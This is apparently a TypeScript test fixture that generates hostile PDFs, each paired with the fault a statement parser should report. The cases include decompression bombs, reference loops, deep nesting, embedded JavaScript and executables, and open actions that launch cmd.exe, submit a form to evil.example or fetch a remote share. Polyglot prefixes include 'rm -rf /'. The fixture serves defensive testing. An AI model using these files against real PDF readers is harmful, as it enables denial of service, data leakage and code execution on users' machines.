import { deflateSync } from 'node:zlib';
import type { FileFault } from '../../../src/statements/pdf/faults.ts';
import type { Verdict } from '../../../src/statements/statement.ts';

/** Joins the parts of a file; a string is written byte by byte. */
export const joined = (...parts: (Uint8Array | string)[]) =>
  Uint8Array.from(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
  );

/** Creates a stream of blanks that is compressed to a thousandth of its size. */
export const bomb = (unpackedBytes: number) =>
  joined(
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n2 0 obj\n<< /Filter /FlateDecode >>\nstream\n',
    deflateSync(Buffer.alloc(unpackedBytes, ' '), { level: 9 }),
    '\nendstream\nendobj\nstartxref\n0\n%%EOF\n',
  );

/** An object of a file: its text, or the entries of a stream's dictionary with the content of the stream. */
type Part = string | readonly [entries: string, content: Uint8Array | string];
type FileParts = {
  /** The objects 1, 2, 3 … Object 1 is the catalogue, object 2 the root of the page tree. */
  parts: readonly Part[];
  trailer?: string;
};

const bytesOf = (text: Uint8Array | string) =>
  typeof text === 'string' ? Buffer.from(text, 'latin1') : text;

/** Writes objects as they are, with a correct table of their places, so that nothing but their content is wrong. */
function fileOf({ parts, trailer = '' }: FileParts): Uint8Array<ArrayBuffer> {
  const written: (Uint8Array | string)[] = ['%PDF-1.7\n'];
  const places: number[] = [];
  let place = 9;
  for (const [index, part] of parts.entries()) {
    const [entries, content] = typeof part === 'string' ? [part, undefined] : part;
    const body =
      content === undefined
        ? entries
        : joined(
            `<< /Length ${bytesOf(content).length} ${entries} >>\nstream\n`,
            bytesOf(content),
            '\nendstream',
          );
    const whole = joined(`${index + 1} 0 obj\n`, body, '\nendobj\n');
    places.push(place);
    place += whole.length;
    written.push(whole);
  }
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = parts.length + 1;
  return joined(
    ...written,
    `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${place}\n%%EOF\n`,
  );
}

const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
const onePage = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (resources = '/Font << /F0 5 0 R >>') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << ${resources} >> >>`;
const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const sentence = 'BT /F0 9 Tf 50 700 Td (Statement of account, opening balance, closing balance) Tj ET';
const packed = (content: Uint8Array | string) => deflateSync(bytesOf(content), { level: 9 });
const hex = (content: Uint8Array) => `${Buffer.from(content).toString('hex')}>`;

type Page = {
  content?: Part;
  font?: Part;
  resources?: string;
  more?: readonly Part[];
  catalogue?: string;
  trailer?: string;
};
/** A file of one page, in which one thing or another is hostile. The objects of `more` are numbered from 6. */
const pageOf = ({ content = ['', sentence], font = helvetica, more = [], ...rest }: Page) =>
  fileOf({
    parts: [rest.catalogue ?? catalogue, onePage, page(rest.resources), content, font, ...more],
    trailer: rest.trailer ?? '',
  });

const withCatalogue = (entries: string, more: readonly Part[] = []) =>
  pageOf({ catalogue: `<< /Type /Catalog /Pages 2 0 R ${entries} >>`, more });

/** A composite font whose codes are described by the stream in object 6. */
const composite = (entries: string) =>
  `<< /Type /Font /Subtype /Type0 /BaseFont /Odd /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Odd /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 >> >>] ${entries} >>`;
const codes = 'BT /F0 9 Tf 50 700 Td <00410042> Tj ET';
const characterMap = (body: string) =>
  `/CIDInit /ProcSet findresource begin\n12 dict begin\nbegincmap\n/CMapName /Odd def\n1 begincodespacerange\n<0000> <FFFF>\nendcodespacerange\n${body}\nendcmap\n`;

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Writes objects into a stream whose codec the first look at the bytes does not know. */
function inOddObjectStream(objects: readonly string[]) {
  let at = 0;
  const index = objects.map((text, position) => {
    const entry = `${position + 1} ${at}`;
    at += text.length + 1;
    return entry;
  });
  const head = `${index.join(' ')} `;
  const stream = Buffer.from(head + objects.map((text) => `${text}\n`).join(''), 'latin1');
  const count = objects.length;
  const body = hex(stream);
  const first = joined(
    `%PDF-1.7\n${count + 1} 0 obj\n<< /Type /ObjStm /N ${count} /First ${head.length} /Filter /ASCIIHexDecode /Length ${body.length} >>\nstream\n`,
    body,
    '\nendstream\nendobj\n',
  );
  const rows = Buffer.alloc((count + 3) * 7);
  for (let number = 1; number <= count + 2; number += 1) {
    const isPacked = number <= count;
    rows.writeUInt8(isPacked ? 2 : 1, number * 7);
    rows.writeUInt32BE(isPacked ? count + 1 : number === count + 1 ? 9 : first.length, number * 7 + 1);
    rows.writeUInt16BE(isPacked ? number - 1 : 0, number * 7 + 5);
  }
  return joined(
    first,
    `${count + 2} 0 obj\n<< /Type /XRef /Size ${count + 3} /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`,
    rows,
    `\nendstream\nendobj\nstartxref\n${first.length}\n%%EOF\n`,
  );
}

type Hostile = { make: () => Uint8Array<ArrayBuffer>; ends: FileFault | Verdict };

const node = (kids: string, more = '') => `<< /Type /Pages /Kids [${kids}] /Count 2 ${more} >>`;
const inObjects = (catalogueEntries: string, pageEntries = '') =>
  inOddObjectStream([
    `<< /Type /Catalog /Pages 2 0 R ${catalogueEntries} >>`,
    onePage,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${pageEntries} >>`,
  ]);
const blanks = (bytes: number) => Buffer.alloc(bytes, ' ');
const changed = (from: string | RegExp, to: string) =>
  joined(Buffer.from(pageOf({})).toString('latin1').replace(from, to));
const locked = (entries: string) => pageOf({ trailer: `/ID [<00> <00>] /Encrypt << ${entries} >>` });
/** A form draws the next form forty times, over five levels. */
const level = (number: number): Part => [
  `/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X ${number + 1} 0 R >> /Font << /F0 5 0 R >> >>`,
  '/X Do '.repeat(40),
];
const range = (from: number, to: number) =>
  `1 beginbfrange\n<${from.toString(16).padStart(8, '0')}> <${to.toString(16).padStart(8, '0')}> <0041>\nendbfrange`;
const manyFonts = Array.from({ length: 60 }, (_, index) => index);

/** Hostile files, and the fault or the verdict in which each must end. */
export const hostileFiles: Record<string, Hostile> = {
  'a page tree whose root is its own child': {
    make: () => fileOf({ parts: [catalogue, node('2 0 R')] }),
    ends: 'loop',
  },
  'a page tree that loops below a page': {
    make: () =>
      fileOf({
        parts: [
          catalogue,
          node('3 0 R 6 0 R'),
          page(),
          ['', sentence],
          helvetica,
          node('7 0 R'),
          node('6 0 R'),
        ],
      }),
    ends: 'loop',
  },
  'a table of objects that follows itself': {
    make: () => {
      const at = Buffer.from(pageOf({})).lastIndexOf('xref\n0 ');
      return pageOf({ trailer: `/Prev ${at}` });
    },
    ends: 'loop',
  },
  'two tables of objects that follow each other': {
    make: () => {
      const first = pageOf({ trailer: '/Prev 900000' });
      const firstAt = Buffer.from(first).lastIndexOf('xref\n0 ');
      return joined(
        Buffer.from(first).toString('latin1').replace('900000', String(first.length).padStart(6, '0')),
        `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${firstAt} >>\nstartxref\n${first.length}\n%%EOF\n`,
      );
    },
    ends: 'loop',
  },
  'a stream that unpacks to a thousand times its size': {
    make: () => pageOf({ content: ['/Filter /FlateDecode', packed(blanks(60_000_000))] }),
    ends: 'bomb',
  },
  'a bomb that is packed twice': {
    make: () => pageOf({ content: ['/Filter [/Fl /Fl]', packed(packed(blanks(60_000_000)))] }),
    ends: 'bomb',
  },
  'a bomb in hexadecimal': {
    make: () =>
      pageOf({ content: ['/Filter [/ASCIIHexDecode /FlateDecode]', hex(packed(blanks(300_000_000)))] }),
    ends: 'bomb',
  },
  'a bomb whose packing is named elsewhere': {
    make: () => pageOf({ content: ['/Filter 6 0 R', packed(blanks(300_000_000))], more: ['/FlateDecode'] }),
    ends: 'bomb',
  },
  'a bomb of runs': {
    make: () =>
      pageOf({
        content: [
          '/Filter [/FlateDecode /RunLengthDecode]',
          packed(Buffer.alloc(6_000_000, Buffer.from([129, 32]))),
        ],
      }),
    ends: 'bomb',
  },
  'a bomb of one stream that is used two thousand times': {
    make: () =>
      fileOf({
        parts: [
          catalogue,
          onePage,
          `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents [${'4 0 R '.repeat(2_000)}] >>`,
          ['/Filter /FlateDecode', packed(blanks(40_000_000))],
        ],
      }),
    ends: 'bomb',
  },
  'a predictor with rows of 268 MB': {
    make: () =>
      pageOf({
        content: [
          '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 268000000 >>',
          packed(sentence),
        ],
      }),
    ends: 'bomb',
  },
  'a font with two billion widths': {
    make: () =>
      pageOf({
        content: ['', codes],
        font: composite('/Encoding /Identity-H').replace(
          '/FontDescriptor',
          '/W [0 2000000000 500] /FontDescriptor',
        ),
      }),
    ends: 'bomb',
  },
  'sixty fonts with a million characters each': {
    make: () =>
      pageOf({
        content: ['', manyFonts.map((index) => `BT /F${index} 9 Tf <0041> Tj ET`).join('\n')],
        resources: `/Font << ${manyFonts.map((index) => `/F${index} ${composite('/Encoding /Identity-H /ToUnicode 6 0 R')}`).join(' ')} >>`,
        more: [['', characterMap(range(0, 0xeeeeee))]],
      }),
    ends: 'bomb',
  },
  'forms within forms that draw a hundred million times': {
    make: () =>
      pageOf({
        content: ['', '/X Do'],
        resources: '/XObject << /X 6 0 R >> /Font << /F0 5 0 R >>',
        more: [
          ...[6, 7, 8, 9, 10].map(level),
          ['/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /Font << /F0 5 0 R >> >>', sentence],
        ],
      }),
    ends: 'slow',
  },
  'millions of words': {
    make: () => {
      const words = '1 0 0 1 50 700 Tm (a b) Tj 1 0 0 1 50 90 Tm (c) Tj\n'.repeat(800_000);
      return pageOf({ content: ['/Filter /FlateDecode', packed(`BT /F0 9 Tf ${words} ET`)] });
    },
    ends: 'bomb',
  },
  'half a million lines without a word': {
    make: () => pageOf({ content: ['/Filter /FlateDecode', packed('0 0 m 1 1 l S\n'.repeat(500_000))] }),
    ends: 'scanned',
  },
  'two million arrays within each other': {
    make: () => withCatalogue(`/Odd ${'['.repeat(2_000_000)}${']'.repeat(2_000_000)}`),
    ends: 'nested',
  },
  'dictionaries within each other': {
    make: () => withCatalogue(`/Odd ${'<</A'.repeat(500_000)} 1 ${'>>'.repeat(500_000)}`),
    ends: 'nested',
  },
  'arrays within each other on a page': {
    make: () => pageOf({ content: ['/Filter /FlateDecode', packed(`${'['.repeat(3_000_000)} ${sentence}`)] }),
    ends: 'nested',
  },
  'a script in the tree of names': {
    make: () => withCatalogue(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
    ends: 'scripts',
  },
  'a script under names in hexadecimal': {
    make: () =>
      withCatalogue('/Names << /J#61va#53cript << /Names [(a) << /S /#4aavaScript /#4aS (x) >>] >> >>'),
    ends: 'scripts',
  },
  'an attachment': {
    make: () =>
      withCatalogue('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        ['/Type /EmbeddedFile', 'MZ'],
      ]),
    ends: 'files',
  },
  'an associated file': {
    make: () =>
      withCatalogue('/AF [6 0 R]', ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', ['', 'MZ']]),
    ends: 'files',
  },
  'an archive within a stream': {
    make: () => pageOf({ more: [['', joined('PK\x03\x04', Buffer.alloc(60))]] }),
    ends: 'files',
  },
  'another PDF within a stream': { make: () => pageOf({ more: [['', pageOf({})]] }), ends: 'files' },
  'a program that is started at opening': {
    make: () => withCatalogue('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    ends: 'actions',
  },
  'a form that is sent at opening': {
    make: () => withCatalogue('/OpenAction << /S /SubmitForm /F (http://evil.example) >>'),
    ends: 'actions',
  },
  'a file of another machine that is opened': {
    make: () => withCatalogue('/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) >>'),
    ends: 'actions',
  },
  'a script in an object stream of an odd packing': {
    make: () => inObjects(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
    ends: 'hidden',
  },
  'a program in an object stream of an odd packing': {
    make: () =>
      inObjects('', '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>]'),
    ends: 'hidden',
  },
  'an unknown method of encryption': { make: () => locked('/Filter /Odd /V 9 /R 9'), ends: 'protection' },
  'encryption of an impossible version': {
    make: () => locked('/Filter /Standard /V 1000 /R 3 /O (x) /U (y) /P -4 /Length 128'),
    ends: 'protection',
  },
  'encryption for the holder of a certificate': {
    make: () => locked('/Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 /Recipients [(x)]'),
    ends: 'protection',
  },
  'encryption with a key of a hundred megabytes': {
    make: () => locked('/Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 /Length 1000000000'),
    ends: 'slow',
  },
  'encryption with an owner of one byte': {
    make: () => locked('/Filter /Standard /V 5 /R 6 /O (x) /U (y) /OE (x) /UE (x) /P -4 /Length 256'),
    ends: 'protection',
  },
  ...Object.fromEntries(
    Object.entries({
      'an archive': 'PK\x03\x04\x14\x00',
      'a web page': '<!DOCTYPE html><script>alert(1)</script>\n',
      'a drawing for the web': '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
      'a JPEG': '\xff\xd8\xff\xe0\x00\x10JFIF\n',
      'a PNG': '\x89PNG\r\n\x1a\n',
      'a program for macOS': '\xca\xfe\xba\xbe',
      'a shell script': '#!/bin/sh\nrm -rf /\n',
      'an old Office document': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
      'a rich text': '{\\rtf1 ',
      'a message': 'MIME-Version: 1.0\nContent-Type: multipart/related\n\n',
    }).map(([name, before]): [string, Hostile] => [
      `${name} that is a PDF too`,
      { make: () => joined(before, pageOf({})), ends: 'two-kinds' },
    ]),
  ),
  'a PDF that is an archive too': {
    make: () => joined(pageOf({}), 'PK\x03\x04', Buffer.alloc(60)),
    ends: 'two-kinds',
  },
  'ten thousand pages': {
    make: () => {
      const numbers = Array.from({ length: 10_000 }, (_, index) => `${index + 3} 0 R`).join(' ');
      const tree = `<< /Type /Pages /Kids [${numbers}] /Count 10000 >>`;
      return fileOf({ parts: [catalogue, tree, ...Array(10_000).fill('<< /Type /Page /Parent 2 0 R >>')] });
    },
    ends: 'too-long',
  },
  'a page whose number is beyond all numbers': {
    make: () => changed('[3 0 R]', '[999999999999999999999 0 R]'),
    ends: 'corrupt',
  },
  // The following files are odd, but safe to read.
  'a form that draws itself': {
    make: () =>
      pageOf({
        content: ['', '/X Do'],
        resources: '/XObject << /X 6 0 R >>',
        more: [
          ['/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>', '/X Do'],
        ],
      }),
    ends: 'scanned',
  },
  'a font that draws its letters with itself': {
    make: () =>
      pageOf({
        content: ['', 'BT /F0 9 Tf (aaaa) Tj ET'],
        font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F0 5 0 R >> >> >>',
        more: [['', 'BT /F0 9 Tf (aaaaaaaa) Tj ET']],
      }),
    ends: 'scanned',
  },
  'a table of characters that uses itself': {
    make: () =>
      pageOf({
        content: ['', codes],
        font: composite('/Encoding 6 0 R'),
        more: [['/Type /CMap /CMapName /Odd /UseCMap 6 0 R', characterMap('/Odd usecmap')]],
      }),
    ends: 'scanned',
  },
  'a picture of two billion by two billion': {
    make: () =>
      pageOf({
        content: ['', `${sentence} /I Do`],
        resources: '/Font << /F0 5 0 R >> /XObject << /I 6 0 R >>',
        more: [
          [
            '/Type /XObject /Subtype /Image /Width 2000000000 /Height 2000000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
            packed('x'),
          ],
        ],
      }),
    ends: 'not-a-statement',
  },
  'a page that is counted two billion times': {
    make: () => changed('/Count 1', '/Count 2000000000'),
    ends: 'not-a-statement',
  },
  'an object of the number two billion': {
    make: () => changed('trailer', '2000000000 1\n0000000009 00000 n \ntrailer'),
    ends: 'not-a-statement',
  },
  'a stream whose length is the stream': {
    make: () => pageOf({ content: `<< /Length 4 0 R >>\nstream\n${sentence}\nendstream` }),
    ends: 'not-a-statement',
  },
};
